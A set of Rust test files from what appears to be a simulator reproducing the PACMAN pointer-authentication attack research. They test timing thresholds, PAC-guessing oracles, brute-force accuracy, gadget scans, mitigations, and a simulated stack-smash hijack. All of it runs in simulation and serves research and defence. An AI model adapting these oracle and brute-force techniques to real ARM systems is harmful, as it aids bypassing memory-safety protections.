        (arb_reg(), arb_reg(), 0u8..64).prop_map(|(rd, rn, shift)| Inst::LslImm { rd, rn, shift }),
        (arb_reg(), arb_reg(), -2048i16..2048).prop_map(|(rt, rn, offset)| Inst::Ldr {
            rt,
            rn,
            offset
        }),
        (arb_reg(), arb_reg(), -2048i16..2048).prop_map(|(rt, rn, offset)| Inst::Strb {
            rt,
            rn,
            offset
        }),
        (-(1i32 << 23)..(1 << 23)).prop_map(|offset| Inst::B { offset }),
        (0usize..6, -32768i32..32768)
            .prop_map(|(c, offset)| Inst::BCond { cond: Cond::ALL[c], offset }),
        (arb_reg(), -32768i32..32768).prop_map(|(rt, offset)| Inst::Cbz { rt, offset }),
        arb_reg().prop_map(|rn| Inst::Blr { rn }),
        (arb_key(), arb_reg(), arb_reg()).prop_map(|(key, rd, m)| Inst::Pac {
            key,
            rd,
            modifier: PacModifier::Reg(m)
        }),
        (arb_key(), arb_reg()).prop_map(|(key, rd)| Inst::Aut {
            key,
            rd,
            modifier: PacModifier::Zero
        }),
        (any::<bool>(), arb_reg()).prop_map(|(data, rd)| Inst::Xpac { data, rd }),
        (arb_reg(), 0u8..16)
            .prop_map(|(rd, s)| Inst::Mrs { rd, sysreg: SysReg::from_index(s).expect("< 16") }),
        (arb_reg(), 0u8..64, -2048i32..2048).prop_map(|(rt, bit, offset)| Inst::Tbz {
            rt,
            bit,
            offset
        }),
        (arb_reg(), 0u8..64, -2048i32..2048).prop_map(|(rt, bit, offset)| Inst::Tbnz {
            rt,
            bit,
            offset
        }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovN {
            rd,
            imm,
            shift
        }),
        (arb_reg(), arb_reg(), arb_reg(), 0usize..6).prop_map(|(rd, rn, rm, c)| Inst::Csel {
            rd,
            rn,
            rm,
            cond: Cond::ALL[c]
        }),
        (arb_reg(), arb_reg(), arb_reg(), -32i16..32).prop_map(|(rt, rt2, rn, o)| Inst::Ldp {
            rt,
            rt2,
            rn,
            offset: o * 8
        }),
        (arb_reg(), arb_reg(), arb_reg(), -32i16..32).prop_map(|(rt, rt2, rn, o)| Inst::Stp {
            rt,
            rt2,
            rn,
            offset: o * 8
        }),
    ]
}

proptest! {
    #[test]
    fn qarma_decrypt_inverts_encrypt(w0: u64, k0: u64, pt: u64, tweak: u64) {
        let c = Qarma64::new(QarmaKey::new(w0, k0));
        prop_assert_eq!(c.decrypt(c.encrypt(pt, tweak), tweak), pt);
    }

    #[test]
    fn qarma_is_injective_in_the_plaintext(w0: u64, k0: u64, a: u64, b: u64, tweak: u64) {
        prop_assume!(a != b);
        let c = Qarma64::new(QarmaKey::new(w0, k0));
        prop_assert_ne!(c.encrypt(a, tweak), c.encrypt(b, tweak));
    }

    #[test]
    fn pointer_sign_authenticate_roundtrip(key: u128, raw: u64, modifier: u64) {
        let pacs = PacComputer::new(QarmaKey::from_u128(key), 48);
        let canonical = canonicalize(raw);
        let signed = sign(&pacs, raw, modifier);
        let auth = authenticate(&pacs, signed, modifier, PacKey::Ia);
        prop_assert_eq!(auth.pointer(), canonical);
        prop_assert!(auth.is_valid());
    }

    #[test]
    fn tampered_pac_fields_never_authenticate(key: u128, raw: u64, modifier: u64, delta: u16) {
        prop_assume!(delta != 0);
        let pacs = PacComputer::new(QarmaKey::from_u128(key), 48);
        let signed = sign(&pacs, raw, modifier);
        let tampered = with_pac_field(signed, pac_field(signed) ^ delta);
        let auth = authenticate(&pacs, tampered, modifier, PacKey::Da);
        prop_assert!(!auth.is_valid());
        // And the corrupted pointer must fault on use.
        prop_assert!(!is_canonical(auth.pointer()));
    }

    #[test]
    fn canonicalize_is_idempotent(raw: u64) {
        prop_assert_eq!(canonicalize(canonicalize(raw)), canonicalize(raw));
        prop_assert!(is_canonical(canonicalize(raw)));
    }

    #[test]
    fn vpn_and_offset_partition_the_address(raw: u64) {
        let va = VirtualAddress::new(raw);
        let reassembled = (va.vpn() << 14) | va.page_offset();
        prop_assert_eq!(reassembled, va.value() & ((1 << 48) - 1));
    }

    #[test]
    fn encode_decode_roundtrip(inst in arb_inst()) {
        let w = encode(&inst).expect("generated instructions are in range");
        prop_assert_eq!(decode(w).expect("decodes"), inst);
    }

    #[test]
    fn disassembly_is_never_empty(inst in arb_inst()) {
        prop_assert!(!inst.to_string().is_empty());
    }

    #[test]
    fn tlb_never_exceeds_its_associativity(vpns in prop::collection::vec(0u64..4096, 1..200)) {
        let params = TlbParams { ways: 4, sets: 16 };
        let mut tlb = Tlb::new(params);
        for vpn in vpns {
            tlb.insert(TlbEntry { vpn, pfn: vpn, perms: pacman::uarch::Perms::user_rw() });
        }
        for set in 0..16 {
            prop_assert!(tlb.occupancy(set) <= 4, "set {} overflowed", set);
        }
    }

    #[test]
    fn tlb_lookup_after_insert_hits_until_evicted(vpn in 0u64..1024) {
        let mut tlb = Tlb::new(TlbParams { ways: 2, sets: 8 });
        tlb.insert(TlbEntry { vpn, pfn: 7, perms: pacman::uarch::Perms::user_rw() });
        prop_assert_eq!(tlb.lookup(vpn).map(|e| e.pfn), Some(7));
        // Fill the same set with two more entries: vpn must be gone.
        tlb.insert(TlbEntry { vpn: vpn + 8, pfn: 1, perms: pacman::uarch::Perms::user_rw() });
        tlb.insert(TlbEntry { vpn: vpn + 16, pfn: 2, perms: pacman::uarch::Perms::user_rw() });
        prop_assert!(tlb.lookup(vpn).is_none());
    }

    #[test]
    fn mov_imm64_loads_any_constant(value: u64) {
        // Cross-checked against the machine itself.
        use pacman::uarch::{Machine, MachineConfig, Perms};
        let mut m = Machine::new(MachineConfig::default());
        let code = 0x40_0000u64;
        m.map_region(code, 256, Perms::user_rwx());
        let mut a = Asm::new();
        a.mov_imm64(Reg::X0, value);
        a.push(Inst::Hlt);
        m.load_program(code, &a.assemble().expect("assembles"));
        m.cpu.pc = code;
        m.run(16).expect("runs");
        prop_assert_eq!(m.cpu.get(Reg::X0), value);
    }

    #[test]
    fn pac_guessing_probability_is_uniformish(key: u128, target_page in 0u64..0x10000) {
        // For any key, a wrong 16-bit guess authenticating would be a
        // 2^-16 event; across 8 random guesses we should essentially
        // never see an accidental match with the right structure.
        let pacs = PacComputer::new(QarmaKey::from_u128(key), 48);
        let ptr = target_page << 14;
        let signed = sign(&pacs, ptr, 0);
        let good = pac_field(signed);
        let mut hits = 0;
        for g in 0..8u16 {
            let guess = good.wrapping_add(1).wrapping_add(g * 8191);
            if authenticate(&pacs, with_pac_field(signed, guess), 0, PacKey::Ia).is_valid() {
                hits += 1;
            }
        }
        prop_assert_eq!(hits, 0);
    }
}
