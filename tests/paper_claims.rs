//! Every headline claim of the paper's evaluation, asserted end to end.
//!
//! Each test names the table/figure/section it covers; EXPERIMENTS.md
//! records paper-vs-measured for the same artefacts.

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::attack::oracle::CORRECT_MISS_THRESHOLD;
use pacman::attack::sweep::{
    cache_tlb_sweep, data_tlb_sweep, derive_hierarchy, experiment_machine, itlb_sweep,
};
use pacman::attack::timing::{evaluate_timer, table1};
use pacman::gadget::{scan_image, synthesize, ImageSpec, ScanConfig};
use pacman::mitigations::{evaluate_all, evaluate_with_squash, AttackSurface};
use pacman::prelude::*;
use pacman::uarch::{ClusterCaches, ClusterTlbs, CoreKind, Mitigation, SquashPolicy};

fn quiet() -> SystemConfig {
    let mut cfg = SystemConfig::default();
    cfg.machine.os_noise = 0.0;
    cfg
}

#[test]
fn table1_timer_availability() {
    let mut sys = System::boot(quiet());
    let rows = table1(&mut sys).expect("table 1");
    // CNTPCT_EL0: EL0-accessible but useless; PMC0: kernel-gated but
    // usable; multi-thread: userspace and usable.
    assert!(rows[0].el0_by_default && !rows[0].usable_for_attack);
    assert!(!rows[1].el0_by_default && rows[1].usable_for_attack);
    assert!(rows[2].el0_by_default && rows[2].usable_for_attack);
}

#[test]
fn table2_cache_configurations() {
    let p = ClusterCaches::for_core(CoreKind::PCore);
    assert_eq!((p.l1i.ways, p.l1i.sets, p.l1i.line, p.l1i.total_bytes()), (6, 512, 64, 192 * 1024));
    assert_eq!((p.l1d.ways, p.l1d.sets, p.l1d.line, p.l1d.total_bytes()), (8, 256, 64, 128 * 1024));
    assert_eq!((p.l2.ways, p.l2.sets, p.l2.line), (12, 8192, 128));
    assert_eq!(p.l2.total_bytes(), 12 * 1024 * 1024);
    let e = ClusterCaches::for_core(CoreKind::ECore);
    assert_eq!(e.l1i.total_bytes(), 128 * 1024);
    assert_eq!(e.l1d.total_bytes(), 64 * 1024);
    assert_eq!(e.l2.total_bytes(), 4 * 1024 * 1024);
}

#[test]
fn figure5a_dtlb_and_l2tlb_knees() {
    let mut m = experiment_machine();
    let series = data_tlb_sweep(&mut m, &[256, 2048]).expect("sweep");
    assert_eq!(series[0].knee_above(90), Some(12), "dTLB knee at N=12, stride 256x16KB");
    assert_eq!(series[1].knee_above(110), Some(23), "L2 TLB knee at N=23, stride 2048x16KB");
}

#[test]
fn figure5b_cache_then_tlb_staircase() {
    let mut m = experiment_machine();
    let series = cache_tlb_sweep(&mut m, &[256 * 128, 256 * 16384, 2048 * 16384]).expect("sweep");
    assert_eq!(series[0].knee_above(75), Some(4), "L1D knee at N=4, stride 256x128B");
    assert_eq!(series[1].knee_above(105), Some(12));
    assert_eq!(series[2].knee_above(125), Some(23));
}

#[test]
fn figure5c_itlb_visibility_drop() {
    let mut m = experiment_machine();
    let series = itlb_sweep(&mut m, &[32]).expect("sweep");
    assert!(series[0].at(1).unwrap() > 110, "iTLB-resident entries are load-invisible");
    assert_eq!(series[0].knee_below(90), Some(4), "iTLB knee at N=4, stride 32x16KB");
}

#[test]
fn figure6_hierarchy_parameters() {
    let t = ClusterTlbs::m1();
    assert_eq!((t.itlb.ways, t.itlb.sets), (4, 32));
    assert_eq!((t.dtlb.ways, t.dtlb.sets), (12, 256));
    assert_eq!((t.l2.ways, t.l2.sets), (23, 2048));
    // And the same parameters are *recoverable from timing alone*.
    let mut m = experiment_machine();
    let f = derive_hierarchy(&mut m).expect("derivation");
    assert_eq!((f.dtlb_ways, f.l2_ways, f.itlb_ways), (12, 23, 4));
    assert!(f.itlb_victims_visible_to_loads);
}

#[test]
fn figure7_threshold_30() {
    let mut sys = System::boot(quiet());
    let eval = evaluate_timer(&mut sys, 300).expect("timer eval");
    // §7.4: "an L1 dTLB hit is never beyond 27, while an L1 dTLB miss is
    // never below 32. As such, the threshold ... can be set to 30."
    assert!(eval.dtlb_hits.max().unwrap() <= 27);
    assert!(eval.dtlb_misses.min().unwrap() >= 32);
    let t = eval.threshold.unwrap();
    assert!((28..=34).contains(&t));
}

#[test]
fn figure8a_data_oracle_reliability() {
    let mut sys = System::boot(SystemConfig::default()); // realistic noise
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let mut oracle = DataPacOracle::new(&mut sys).expect("oracle");
    let trials = 60;
    let mut good = 0;
    let mut clean = 0;
    for i in 0..trials {
        if oracle.trial(&mut sys, target, true_pac).expect("trial") >= CORRECT_MISS_THRESHOLD {
            good += 1;
        }
        let wrong = true_pac ^ (1 + i as u16);
        if oracle.trial(&mut sys, target, wrong).expect("trial") <= 1 {
            clean += 1;
        }
    }
    // Paper: 99.6% / 99.2%. Allow a couple of noisy trials.
    assert!(good >= trials - 2, "correct-PAC detection {good}/{trials}");
    assert!(clean >= trials - 2, "incorrect-PAC cleanliness {clean}/{trials}");
    assert_eq!(sys.kernel.crash_count(), 0);
}

#[test]
fn figure8b_instruction_oracle_reliability() {
    let mut sys = System::boot(SystemConfig::default());
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let mut oracle = InstrPacOracle::new(&mut sys).expect("oracle");
    let trials = 40;
    let mut good = 0;
    let mut clean = 0;
    for i in 0..trials {
        if oracle.trial(&mut sys, target, true_pac).expect("trial") >= CORRECT_MISS_THRESHOLD {
            good += 1;
        }
        if oracle.trial(&mut sys, target, true_pac ^ (3 + i as u16)).expect("trial") <= 1 {
            clean += 1;
        }
    }
    assert!(good >= trials - 2, "correct-PAC detection {good}/{trials}");
    assert!(clean >= trials - 2, "incorrect-PAC cleanliness {clean}/{trials}");
    assert_eq!(sys.kernel.crash_count(), 0);
}

#[test]
fn section43_gadget_census_shape() {
    let image = synthesize(&ImageSpec { functions: 600, seed: 1234, ..ImageSpec::default() });
    let report = scan_image(&image.bytes, &ScanConfig::default());
    assert!(report.total() > 600, "gadgets must be abundant: {}", report.total());
    assert!(
        report.instruction_count() > report.data_count(),
        "instruction gadgets dominate in PA-enabled code"
    );
    let d = report.mean_distance();
    assert!((4.0..=20.0).contains(&d), "short branch-to-transmit distances, got {d}");
}

#[test]
fn section82_brute_force_accuracy_protocol() {
    // 10 miniature runs of the §8.2 protocol (5 samples, median rule):
    // count TP/FP/FN. False positives are intolerable; false negatives
    // are retryable. The paper observed 45 TP / 5 FN / 0 FP over 50 runs
    // under noise.
    let mut sys = System::boot(SystemConfig::default());
    let set = sys.pick_quiet_dtlb_set();
    let target = sys.alloc_target(set);
    let true_pac = sys.true_pac(target);
    let oracle = DataPacOracle::new(&mut sys).expect("oracle").with_samples(5);
    let mut bf = BruteForcer::new(oracle);
    let mut tp = 0;
    let mut fp = 0;
    for run in 0..10 {
        let start = true_pac.wrapping_sub(2).wrapping_add(run % 2);
        let outcome =
            bf.brute(&mut sys, target, (0..8u16).map(|i| start.wrapping_add(i))).expect("run");
        match BruteForcer::<DataPacOracle>::classify(&outcome, true_pac) {
            BruteVerdict::TruePositive => tp += 1,
            BruteVerdict::FalsePositive => fp += 1,
            BruteVerdict::FalseNegative => {}
        }
        assert_eq!(outcome.crashes, 0);
    }
    assert_eq!(fp, 0, "false positives are intolerable (paper: none in 50 runs)");
    assert!(tp >= 8, "true positives {tp}/10 (paper: 90%)");
}

#[test]
fn section9_mitigation_matrix() {
    let evals = evaluate_all();
    for e in &evals {
        match e.report.mitigation {
            Mitigation::None => assert_eq!(e.surface, AttackSurface::FullyVulnerable),
            _ => assert_eq!(
                e.surface,
                AttackSurface::Protected,
                "{:?} failed to protect",
                e.report.mitigation
            ),
        }
    }
    // The fence variant costs benign performance; the others don't (in
    // this model — see DESIGN.md).
    let base = evals.iter().find(|e| e.report.mitigation == Mitigation::None).unwrap();
    let fence = evals.iter().find(|e| e.report.mitigation == Mitigation::FenceAfterAut).unwrap();
    assert!(fence.benign_cycles as f64 > 1.2 * base.benign_cycles as f64);
}

#[test]
fn section42_eager_squash_requirement() {
    let lazy = evaluate_with_squash(Mitigation::None, SquashPolicy::Lazy);
    assert_eq!(lazy.surface, AttackSurface::DataGadgetOnly);
    let eager = evaluate_with_squash(Mitigation::None, SquashPolicy::Eager);
    assert_eq!(eager.surface, AttackSurface::FullyVulnerable);
}
