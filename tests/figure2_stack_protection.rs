//! Figure 2 end to end: return-address protection with `pacia`/`autia`.
//!
//! Builds whole user programs with the paper's Figure 2 prologue/epilogue
//! and demonstrates the three regimes:
//! 1. benign execution — sign, spill, reload, authenticate, return;
//! 2. a stack smash *without* PA — classic return-address hijack works;
//! 3. the same smash *with* PA — the corrupted return address fails
//!    authentication and the `ret` faults (the crash PA is designed to
//!    cause, and PACMAN is designed to avoid).

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::isa::{Asm, Inst, PacKey, PacModifier, Reg};
use pacman::uarch::{AccessKind, El, Machine, MachineConfig, Perms, Trap};

const CODE: u64 = 0x0000_0000_0040_0000;
const STACK_TOP: u64 = 0x0000_0000_0100_0000;
const EVIL: u64 = 0x0000_0000_0200_0000;

fn machine() -> Machine {
    let mut cfg = MachineConfig::default();
    cfg.os_noise = 0.0;
    let mut m = Machine::new(cfg);
    m.map_region(CODE, 4096, Perms::user_rwx());
    m.map_region(STACK_TOP - 0x8000, 0x8000, Perms::user_rw());
    m.map_page(EVIL, Perms::user_rwx());
    m.cpu.keys.write_half(pacman::isa::SysReg::ApiaKeyLo, 0x1122_3344_5566_7788);
    // "Evil" payload: marks x28 and halts.
    let mut evil = Asm::new();
    evil.mov_imm64(Reg::X28, 0xEB11);
    evil.push(Inst::Hlt);
    m.load_program(EVIL, &evil.assemble().unwrap());
    m
}

/// Builds `main: bl func; hlt` + `func` with the Figure 2 frame, where
/// `func` optionally smashes its own saved return address (modelling a
/// stack buffer overflow inside the callee).
fn program(protect: bool, smash: bool) -> Vec<Inst> {
    let mut a = Asm::new();
    let func = a.new_label();
    // main:
    a.bl(func);
    a.push(Inst::Hlt);
    // func:
    a.bind(func);
    if protect {
        // Figure 2(a): pacia lr, sp; sub sp; str lr, [sp, #0x30]
        a.push(Inst::Pac { key: PacKey::Ia, rd: Reg::LR, modifier: PacModifier::Reg(Reg::SP) });
    }
    a.push(Inst::SubImm { rd: Reg::SP, rn: Reg::SP, imm: 0x40 });
    a.push(Inst::Str { rt: Reg::LR, rn: Reg::SP, offset: 0x30 });
    // ... body ...
    a.push(Inst::AddImm { rd: Reg::X0, rn: Reg::X0, imm: 1 });
    if smash {
        // The "buffer overflow": overwrite the saved return address with
        // the attacker's target.
        a.mov_imm64(Reg::X9, EVIL);
        a.push(Inst::Str { rt: Reg::X9, rn: Reg::SP, offset: 0x30 });
    }
    // Figure 2(b): ldr lr, [sp, #0x30]; add sp; autia lr, sp; ret
    a.push(Inst::Ldr { rt: Reg::LR, rn: Reg::SP, offset: 0x30 });
    a.push(Inst::AddImm { rd: Reg::SP, rn: Reg::SP, imm: 0x40 });
    if protect {
        a.push(Inst::Aut { key: PacKey::Ia, rd: Reg::LR, modifier: PacModifier::Reg(Reg::SP) });
    }
    a.push(Inst::Ret);
    a.assemble().unwrap()
}

fn run(m: &mut Machine, prog: &[Inst]) -> Result<pacman::uarch::Stop, Trap> {
    m.load_program(CODE, prog);
    m.cpu.pc = CODE;
    m.cpu.el = El::El0;
    m.cpu.set(Reg::SP, STACK_TOP - 0x100);
    m.cpu.set(Reg::X28, 0);
    m.cpu.set(Reg::X0, 41);
    m.run(1000)
}

#[test]
fn benign_pa_frames_return_normally() {
    let mut m = machine();
    run(&mut m, &program(true, false)).expect("benign run");
    assert_eq!(m.cpu.get(Reg::X0), 42, "function body ran and returned");
    assert_eq!(m.cpu.get(Reg::X28), 0, "control never reached the payload");
}

#[test]
fn without_pa_the_stack_smash_hijacks_control() {
    let mut m = machine();
    run(&mut m, &program(false, true)).expect("hijacked run halts in the payload");
    assert_eq!(m.cpu.get(Reg::X28), 0xEB11, "classic ROP-style hijack succeeds without PA");
}

#[test]
fn with_pa_the_stack_smash_crashes_instead() {
    let mut m = machine();
    let err = run(&mut m, &program(true, true)).expect_err("authentication must fail");
    assert!(
        matches!(err, Trap::TranslationFault { access: AccessKind::Fetch, .. }),
        "the corrupted return address must fault on fetch, got {err:?}"
    );
    assert_eq!(m.cpu.get(Reg::X28), 0, "the payload never ran");
}

#[test]
fn rsb_predicts_matched_call_return_pairs() {
    // A matched bl/ret pair predicts perfectly: no speculation episode.
    let mut m = machine();
    let episodes_before = m.stats.spec_episodes;
    run(&mut m, &program(true, false)).unwrap();
    assert_eq!(m.stats.spec_episodes, episodes_before, "matched return must not mispredict");
}

#[test]
fn smashed_return_mispredicts_through_the_rsb() {
    // Without PA, the smashed return address disagrees with the RSB
    // prediction: the machine speculates down the *legitimate* return
    // path before redirecting — ret2spec territory.
    let mut m = machine();
    let episodes_before = m.stats.spec_episodes;
    run(&mut m, &program(false, true)).unwrap();
    assert!(
        m.stats.spec_episodes > episodes_before,
        "a hijacked return must mispredict against the RSB"
    );
}
