//! Fuzzing the simulator: arbitrary programs (valid instructions, random
//! operands) must never panic the *host* — every outcome is either a
//! clean stop or an architectural trap. This is the robustness bar any
//! adopted simulator must clear, and it exercises paths the curated
//! attack code never hits (wild addresses, SP arithmetic overflow,
//! self-jumps, nested syscalls...).
//!
//! Reproducibility: every case's program is derived from a single u64
//! seed. The base seed comes from `PACMAN_FUZZ_SEED` (decimal or
//! `0x`-hex; fixed default otherwise), and when a case fails the harness
//! prints the exact per-case seed plus the full program listing, so
//!
//! ```text
//! PACMAN_FUZZ_SEED=<printed seed> cargo test -p pacman --test fuzz_machine
//! ```
//!
//! replays the failing program as case #0.

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use std::panic::{catch_unwind, resume_unwind, AssertUnwindSafe};

use pacman::isa::{encode, Cond, Inst, PacKey, PacModifier, Reg, SysReg};
use pacman::uarch::{El, Machine, MachineConfig, Perms};
use proptest::prelude::*;
use rand::rngs::SmallRng;
use rand::SeedableRng;

const CODE: u64 = 0x40_0000;

/// Base seed when `PACMAN_FUZZ_SEED` is unset.
const DEFAULT_SEED: u64 = 0xF422_5EED;

fn arb_reg() -> impl Strategy<Value = Reg> {
    (0u8..33).prop_map(|i| Reg::from_index(i).expect("< 33"))
}

/// Any encodable instruction with small-ish offsets so control flow stays
/// interesting without leaving the mapped window too often.
fn arb_inst() -> impl Strategy<Value = Inst> {
    prop_oneof![
        Just(Inst::Nop),
        Just(Inst::Isb),
        Just(Inst::Ret),
        Just(Inst::Hlt),
        Just(Inst::Eret),
        any::<u16>().prop_map(|imm| Inst::Svc { imm }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovZ {
            rd,
            imm,
            shift
        }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovN {
            rd,
            imm,
            shift
        }),
        (arb_reg(), arb_reg(), 0u16..4096).prop_map(|(rd, rn, imm)| Inst::AddImm { rd, rn, imm }),
        (arb_reg(), arb_reg(), arb_reg()).prop_map(|(rd, rn, rm)| Inst::Mul { rd, rn, rm }),
        (arb_reg(), arb_reg(), arb_reg()).prop_map(|(rd, rn, rm)| Inst::EorReg { rd, rn, rm }),
        (arb_reg(), arb_reg(), 0u8..64).prop_map(|(rd, rn, shift)| Inst::LsrImm { rd, rn, shift }),
        (arb_reg(), 0u16..4096).prop_map(|(rn, imm)| Inst::CmpImm { rn, imm }),
        (arb_reg(), arb_reg(), -2048i16..2048).prop_map(|(rt, rn, offset)| Inst::Ldr {
            rt,
            rn,
            offset
        }),
        (arb_reg(), arb_reg(), -2048i16..2048).prop_map(|(rt, rn, offset)| Inst::Str {
            rt,
            rn,
            offset
        }),
        (arb_reg(), arb_reg(), arb_reg(), -32i16..32).prop_map(|(rt, rt2, rn, o)| Inst::Ldp {
            rt,
            rt2,
            rn,
            offset: o * 8
        }),
        (-8i32..8).prop_map(|offset| Inst::B { offset }),
        (-8i32..8).prop_map(|offset| Inst::Bl { offset }),
        (0usize..6, -8i32..8).prop_map(|(c, offset)| Inst::BCond { cond: Cond::ALL[c], offset }),
        (arb_reg(), -8i32..8).prop_map(|(rt, offset)| Inst::Cbz { rt, offset }),
        (arb_reg(), 0u8..64, -8i32..8).prop_map(|(rt, bit, offset)| Inst::Tbnz { rt, bit, offset }),
        arb_reg().prop_map(|rn| Inst::Br { rn }),
        arb_reg().prop_map(|rn| Inst::Blr { rn }),
        (0u8..4, arb_reg(), arb_reg()).prop_map(|(k, rd, m)| Inst::Pac {
            key: PacKey::from_index(k).expect("< 4"),
            rd,
            modifier: PacModifier::Reg(m),
        }),
        (0u8..4, arb_reg()).prop_map(|(k, rd)| Inst::Aut {
            key: PacKey::from_index(k).expect("< 4"),
            rd,
            modifier: PacModifier::Zero,
        }),
        (any::<bool>(), arb_reg()).prop_map(|(data, rd)| Inst::Xpac { data, rd }),
        (arb_reg(), 0u8..16)
            .prop_map(|(rd, s)| Inst::Mrs { rd, sysreg: SysReg::from_index(s).expect("< 16") }),
        (0u8..16, arb_reg())
            .prop_map(|(s, rn)| Inst::Msr { sysreg: SysReg::from_index(s).expect("< 16"), rn }),
    ]
}

/// The base fuzz seed: `PACMAN_FUZZ_SEED` (decimal or `0x`-hex), or the
/// fixed default.
fn fuzz_seed() -> u64 {
    match std::env::var("PACMAN_FUZZ_SEED") {
        Err(_) => DEFAULT_SEED,
        Ok(s) => {
            let s = s.trim();
            let parsed = match s.strip_prefix("0x").or_else(|| s.strip_prefix("0X")) {
                Some(hex) => u64::from_str_radix(hex, 16),
                None => s.parse(),
            };
            parsed.unwrap_or_else(|_| panic!("PACMAN_FUZZ_SEED {s:?} is not a u64"))
        }
    }
}

/// splitmix64 — decorrelates the sequential per-case seeds.
fn splitmix64(mut x: u64) -> u64 {
    x = x.wrapping_add(0x9E37_79B9_7F4A_7C15);
    x = (x ^ (x >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
    x = (x ^ (x >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
    x ^ (x >> 31)
}

/// Runs `cases` fuzz cases. Each case samples a program (and whatever
/// extras `exec` draws) from an RNG seeded with `base ^ index`, so a
/// failing case replays as case #0 under `PACMAN_FUZZ_SEED=<base ^ index>`.
/// On panic the failing seed and full program listing are printed before
/// the panic is propagated.
fn fuzz_cases(label: &str, cases: u64, max_len: usize, exec: impl Fn(&[Inst], &mut SmallRng)) {
    let base = fuzz_seed();
    let strategy = prop::collection::vec(arb_inst(), 1..max_len);
    for index in 0..cases {
        let case_seed = base ^ index;
        let mut rng = SmallRng::seed_from_u64(splitmix64(case_seed));
        let program = strategy.sample(&mut rng);
        if let Err(payload) = catch_unwind(AssertUnwindSafe(|| exec(&program, &mut rng))) {
            eprintln!("fuzz '{label}' failed at case #{index} (base seed {base:#x})");
            eprintln!("reproduce with: PACMAN_FUZZ_SEED={case_seed:#x}");
            eprintln!("program ({} instructions):", program.len());
            for (i, inst) in program.iter().enumerate() {
                eprintln!("  {i:3}: {inst}");
            }
            resume_unwind(payload);
        }
    }
}

#[test]
fn random_programs_never_panic_the_simulator() {
    fuzz_cases("never_panic", 96, 64, |program, rng| {
        let mut cfg = MachineConfig::default();
        cfg.seed = 7;
        let mut m = Machine::new(cfg);
        m.map_region(CODE, 4 * program.len() as u64 + 64, Perms::user_rwx());
        m.map_region(0x80_0000, 0x10000, Perms::user_rw());
        // Every instruction the generator produces must encode.
        for inst in program {
            assert!(encode(inst).is_ok(), "unencodable {inst}");
        }
        m.load_program(CODE, program);
        m.cpu.pc = CODE;
        m.cpu.el = El::El0;
        let seed_regs: Vec<u64> = prop::collection::vec(any::<u64>(), 4).sample(rng);
        for (i, &v) in seed_regs.iter().enumerate() {
            m.cpu.set(Reg::x(i as u8), v);
        }
        m.cpu.set(Reg::SP, 0x80_8000);
        // Any Ok/Err outcome is acceptable; a Rust panic is the bug.
        let _ = m.run(2_000);
    });
}

#[test]
fn random_programs_are_deterministic() {
    fuzz_cases("deterministic", 64, 32, |program, _rng| {
        let run = || {
            let mut cfg = MachineConfig::default();
            cfg.seed = 3;
            let mut m = Machine::new(cfg);
            m.map_region(CODE, 4 * program.len() as u64 + 64, Perms::user_rwx());
            m.map_region(0x80_0000, 0x10000, Perms::user_rw());
            m.load_program(CODE, program);
            m.cpu.pc = CODE;
            m.cpu.set(Reg::SP, 0x80_8000);
            let outcome = m.run(500);
            (format!("{outcome:?}"), m.cpu.regs, m.cycles, m.stats.retired)
        };
        assert_eq!(run(), run(), "two identical runs diverged");
    });
}
