//! Fuzzing the simulator: arbitrary programs (valid instructions, random
//! operands) must never panic the *host* — every outcome is either a
//! clean stop or an architectural trap. This is the robustness bar any
//! adopted simulator must clear, and it exercises paths the curated
//! attack code never hits (wild addresses, SP arithmetic overflow,
//! self-jumps, nested syscalls...).

#![allow(clippy::field_reassign_with_default)] // building configs by mutation is the intended style

use pacman::isa::{encode, Cond, Inst, PacKey, PacModifier, Reg, SysReg};
use pacman::uarch::{El, Machine, MachineConfig, Perms};
use proptest::prelude::*;

const CODE: u64 = 0x40_0000;

fn arb_reg() -> impl Strategy<Value = Reg> {
    (0u8..33).prop_map(|i| Reg::from_index(i).expect("< 33"))
}

/// Any encodable instruction with small-ish offsets so control flow stays
/// interesting without leaving the mapped window too often.
fn arb_inst() -> impl Strategy<Value = Inst> {
    prop_oneof![
        Just(Inst::Nop),
        Just(Inst::Isb),
        Just(Inst::Ret),
        Just(Inst::Hlt),
        Just(Inst::Eret),
        any::<u16>().prop_map(|imm| Inst::Svc { imm }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovZ {
            rd,
            imm,
            shift
        }),
        (arb_reg(), any::<u16>(), 0u8..4).prop_map(|(rd, imm, shift)| Inst::MovN {
            rd,
            imm,
            shift
        }),
        (arb_reg(), arb_reg(), 0u16..4096).prop_map(|(rd, rn, imm)| Inst::AddImm { rd, rn, imm }),
        (arb_reg(), arb_reg(), arb_reg()).prop_map(|(rd, rn, rm)| Inst::Mul { rd, rn, rm }),
        (arb_reg(), arb_reg(), arb_reg()).prop_map(|(rd, rn, rm)| Inst::EorReg { rd, rn, rm }),
        (arb_reg(), arb_reg(), 0u8..64).prop_map(|(rd, rn, shift)| Inst::LsrImm { rd, rn, shift }),
        (arb_reg(), 0u16..4096).prop_map(|(rn, imm)| Inst::CmpImm { rn, imm }),
        (arb_reg(), arb_reg(), -2048i16..2048).prop_map(|(rt, rn, offset)| Inst::Ldr {
            rt,
            rn,
            offset
        }),
        (arb_reg(), arb_reg(), -2048i16..2048).prop_map(|(rt, rn, offset)| Inst::Str {
            rt,
            rn,
            offset
        }),
        (arb_reg(), arb_reg(), arb_reg(), -32i16..32).prop_map(|(rt, rt2, rn, o)| Inst::Ldp {
            rt,
            rt2,
            rn,
            offset: o * 8
        }),
        (-8i32..8).prop_map(|offset| Inst::B { offset }),
        (-8i32..8).prop_map(|offset| Inst::Bl { offset }),
        (0usize..6, -8i32..8).prop_map(|(c, offset)| Inst::BCond { cond: Cond::ALL[c], offset }),
